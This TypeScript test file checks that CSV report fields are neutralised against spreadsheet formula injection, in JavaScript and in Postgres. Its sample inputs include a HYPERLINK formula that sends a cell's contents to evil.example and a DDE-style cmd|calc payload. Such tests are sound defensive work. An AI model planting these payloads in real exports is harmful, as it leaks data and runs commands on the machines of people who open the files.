/** Formula injection: every CSV field a sender controls is kept as text a spreadsheet never runs, in JS and in SQL. */
import { sql } from 'kysely';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvField, csvLine, csvText, neutralised } from '../../src/report/csv.js';
import { csvFieldSql } from '../../src/store/report/csv-text.js';
import { amount } from '../../src/report/cells.js';
import { Decimal } from '../../src/decimal/decimal.js';
import { describeEachStore } from '../helpers/db.js';

/** Texts a partner order, a fill or a returned workbook can carry, and what the CSV must hold for each. */
const CASES: Array<[string, string]> = [
  ['=HYPERLINK("http://evil.example/?d="&B2,"details")', `"'=HYPERLINK(""http://evil.example/?d=""&B2,""details"")"`],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\tTAB', "'\tTAB"],
  ['\r=1', `"'\r=1"`],
  ['-', "'-"],
  ['-12.50', '-12.50'],
  ['+3', '+3'],
  ['-1.5e-7', '-1.5e-7'],
  ['ref-42', 'ref-42'],
  ['bc1q=x', 'bc1q=x'],
  ['', ''],
];

it('neutralises a leading =, +, -, @, tab or CR with a quote; plain numbers and other texts stay as they are', () => {
  for (const [text, field] of CASES) expect(csvField(csvText(text))).toBe(field);
  // a negative amount is a number, not text
  expect(csvText(amount(new Decimal('-0.5'), 2))).toBe('-0.5');
  expect(csvLine(['=1+1', amount(new Decimal('-2'), 2)], 2)).toBe("'=1+1,-2\r\n");
  fc.assert(
    fc.property(fc.string(), (s) => {
      const out = neutralised(s);
      // never starts a formula, and the text is kept after at most one quote
      expect(/^[=+@\t\r-]/.test(out) && !/^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$/.test(out)).toBe(false);
      expect(out === s || out === `'${s}`).toBe(true);
    }),
  );
});

describeEachStore('CSV fields Postgres writes', (ctx) => {
  it('neutralise exactly as the JS writer does (the COPY lines and the sheet rows agree)', async () => {
    const texts = [...CASES.map(([t]) => t), ...fc.sample(fc.string({ unit: 'binary' }), 200)].filter(
      (t) => !t.includes('\u0000'),
    );
    for (const text of texts) {
      const { rows } = await sql<{ field: string }>`select ${csvFieldSql(sql`${text}::text`)} as field`.execute(
        ctx.store.db,
      );
      expect(rows[0]!.field, JSON.stringify(text)).toBe(csvField(csvText(text)));
    }
  });
});
